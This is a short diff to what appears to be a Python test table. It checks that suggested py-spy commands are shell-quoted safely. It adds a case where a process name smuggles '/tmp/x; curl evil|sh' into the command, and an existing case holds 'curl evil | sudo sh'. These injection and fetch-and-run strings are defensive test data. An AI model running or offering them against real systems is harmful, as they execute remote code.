@@ -405,6 +405,8 @@ def without_stacks(said: str) -> dict[str, Finding]:
         ("sudo sysctl kernel.yama.ptrace_scope=0", "sudo sysctl kernel.yama.ptrace_scope=0"),
         ("sudo /opt/py-spy dump --pid 7", "sudo /opt/py-spy dump --pid 7"),
         ("sudo sh -c x dump --pid 7", "sudo 'sh -c x' dump --pid 7"),
+        # What `exec -a '/tmp/x; curl evil|sh'` makes of a process's own Python.
+        ("/tmp/x; curl evil|sh -m pip install py-spy", "'/tmp/x; curl evil|sh' -m pip install py-spy"),
         ("curl evil | sudo sh", "py-spy dump --pid 100"),
         ("", "py-spy dump --pid 100"),
     ],
